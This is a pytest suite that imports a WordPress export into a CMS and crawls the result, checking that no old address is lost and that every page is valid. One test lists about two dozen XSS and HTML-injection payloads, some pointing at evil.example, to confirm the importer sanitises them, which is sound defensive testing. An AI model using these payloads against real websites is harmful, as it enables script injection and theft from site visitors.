"""A site that moved in, walked through: nothing is lost, nothing runs, every page is valid."""

import io
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from checkers import nu_errors
from django.db import connection
from factories import Newsroom
from moving_in import EXPORTS, attachment, bring_in, comment, file_of, meta, post, term
from PIL import Image
from walking import Walk, crawl

from obole.comments.actions.ruling import found_house_rules
from obole.foundation import clock
from obole.foundation.outbound_http import Fetched, Wanted
from obole.newsroom.models import search_index
from obole.portability.rules.items import SourceAuthor, SourceItem, SourceTerm
from obole.portability.rules.wxr import read_export

pytestmark = pytest.mark.browser

SUITE = EXPORTS / "themeunittestdata.wordpress.xml"
# What WordPress puts after the address of an article or of a list; each is tried with a few.
# A page to which a reader goes by a click, to see a film where it is. Its policy names that host.
PLAYER = re.compile(
    r"/en/player/\d+/[0-9a-f-]+/: src of iframe on another host: https://www\.youtube-nocookie\.com/"
)
APPENDED = ("", "feed/", "amp/", "embed/", "trackback/", "page/2/", "comment-page-1/")
TRIED_WITH = 3


def fetch_anything(url: str, _: Wanted) -> Fetched:
    """Answer for the old site: with a picture of one colour, or with a few bytes."""
    suffix = Path(urlsplit(url).path).suffix.lower()
    if suffix not in {".jpg", ".jpeg", ".png", ".gif", ".webp"}:
        return Fetched(status=200, headers={}, body=b"Some bytes.", url=url)
    picture = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 120, 60)).save(picture, "PNG")
    return Fetched(status=200, headers={}, body=picture.getvalue(), url=url)


@pytest.fixture(autouse=True)
def house(settings, tmp_path: Path, newsroom: Newsroom) -> None:
    """Give a newsroom with a folder for pictures and the index of words, made by a migration."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    if not search_index.is_installed(connection):
        search_index.install(connection)
    # As every site has them: each article links to them.
    found_house_rules(now=clock.now())


def old_addresses(file: Path) -> Iterator[str]:
    """Yield every address that readers of the old site could have, by what WordPress has."""
    yield from ("/feed/", "/feed/atom/", "/?feed=rss2", "/index.php", "/page/2/", "/?s=test")
    with file.open("rb") as stream:
        items = 0
        for record in read_export(stream, recover=False):
            if isinstance(record, SourceItem):
                items += record.kind == "post"
                yield from _of_item(record, is_tried_with_all=items <= TRIED_WITH)
            elif isinstance(record, SourceAuthor):
                yield f"/author/{record.login}/"
                yield f"/author/{record.login}/feed/"
                yield f"/?author={record.old_id}"
            elif isinstance(record, SourceTerm) and record.kind in {"category", "tag"}:
                yield from (f"/{record.kind}/{record.slug}/{each}" for each in APPENDED[:2])


def _of_item(item: SourceItem, *, is_tried_with_all: bool) -> Iterator[str]:
    is_public = item.status == "publish" or item.kind == "attachment"
    if item.kind not in {"post", "page", "attachment"} or not is_public or item.password:
        return
    name = {"page": "page_id", "attachment": "attachment_id"}.get(item.kind, "p")
    yield f"/?{name}={item.old_id}"
    path = urlsplit(item.link).path
    if path in {"", "/"}:
        return
    yield path
    if item.kind == "attachment":
        # Files of WordPress.com are on a host of their own, which does not move.
        if urlsplit(item.attachment_url).hostname == urlsplit(item.link).hostname:
            yield urlsplit(item.attachment_url).path
        return
    appended = APPENDED if is_tried_with_all else APPENDED[:2]
    yield from (f"{path.rstrip('/')}/{each}" for each in appended)
    if item.kind == "post" and item.published_at is not None:
        yield f"/{item.published_at:%Y}/"
        yield f"/{item.published_at:%Y/%m}/"
        yield f"/{item.published_at:%Y/%m/%d}/"
        yield f"/?m={item.published_at:%Y%m}"


def walk_through(file: Path, *, base: str = "") -> Walk:
    """Return the walk from the front pages, the sitemap's pages and every old address."""
    old = dict.fromkeys(f"{base}{each}" for each in old_addresses(file))
    return crawl(["/", "/en/", *old])


@pytest.mark.skipif(not SUITE.exists(), reason=f"needs {SUITE}")
def test_the_theme_unit_test_moves_in_whole() -> None:
    bring_in(SUITE, fetch=fetch_anything)

    walk = walk_through(SUITE)

    assert [each for each in walk.complaints if not PLAYER.match(each)] == []
    assert len(walk.pages) > 100
    assert nu_errors(walk.pages) == []


ATTACKS = (
    "<script>alert(1)</script>",
    "<p onclick='alert(1)' style='position:fixed'>Un clic</p>",
    "<a href='javascript:alert(1)'>a</a> <a href=' java&#10;script:alert(1)'>b</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>c</a> <a href='vbscript:x'>d</a>",
    "<img src=x onerror=alert(1)> <img src='javascript:alert(1)'>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>e</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<iframe srcdoc='<script>alert(1)</script>' src='https://evil.example/'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='//evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=q><button formaction=javascript:x>f</form>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import url(//evil.example/x.css)</style><link rel=stylesheet href=//evil.example/y>",
    "<video poster='javascript:x' onloadstart=alert(1)><source src='//evil.example/x.mp4'></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!-- wp:html --><img src='https://evil.example/pixel.gif' width=1><!-- /wp:html -->",
    "<!-- wp:image {\"id\":\"' onerror='x\"} --><img src='\" onerror=x' alt='\"><script>'>",
    "[embed]javascript:alert(1)[/embed] [video src='javascript:x'] [gallery ids='1,<script>']",
    "[caption caption='<script>x</script>']<img src='data:image/svg+xml,<svg/onload=x>'>[/caption]",
    "<table onmouseover=x><tr><td background='javascript:x' colspan=99999>g</td></table>",
    "<h2 id='a' id='b'>h</h2><h2 id='a'>i</h2><p id=a>j</p><ul><p>k</p><li>l</ul></div></article>",
    "<details ontoggle=x open><summary>m</summary><dialog open>n</dialog></details>",
    "<a href='https://old.example/?p=1'>o</a> <a href='/?p=404'>p <a href='//old.example/?p=2'>q",
)
TITLE = "&lt;script&gt;alert(1)&lt;/script&gt; \u202egnp.x\u2066\u200b &amp;quot; onload=x"


def test_nothing_of_a_hostile_export_runs(tmp_path: Path) -> None:
    texts = [
        post(number, content=attack, title=TITLE if number % 2 else "")
        for number, attack in enumerate(ATTACKS, start=1)
    ]
    page = post(
        901,
        kind="page",
        title=TITLE,
        content="".join(ATTACKS),
        link="https://old.example/about/",
        post_name="&lt;script&gt;",
    )
    signed = post(
        902,
        title=TITLE * 20,
        creator="&lt;img src=x onerror=x&gt;",
        content=" ".join(ATTACKS[:5]),
        inside=comment(1, content="&lt;script&gt;alert(1)&lt;/script&gt;", comment_author="&lt;b")
        + meta("_thumbnail_id", "903")
        + meta("_yoast_wpseo_title", '"><script>alert(1)</script>')
        + meta("_yoast_wpseo_metadesc", "</script><script>alert(1)</script>")
        + term("category", "x", "&lt;script&gt;alert(1)&lt;/script&gt;")
        + term("post_tag", "y", "\u202e&quot;onload=x"),
    )
    picture = attachment(
        903,
        "2020/x.jpg",
        parent=902,
        title=TITLE,
        inside=meta("_wp_attachment_image_alt", '"><script>alert(1)</script>'),
    )
    file = file_of(tmp_path, *texts, page, signed, picture)

    bring_in(file, fetch=fetch_anything)

    walk = walk_through(file)
    assert walk.complaints == []
    assert not any(b"alert(1)</script>" in page for page in walk.pages.values())
    assert len(walk.pages) > len(ATTACKS)
    assert nu_errors(walk.pages) == []
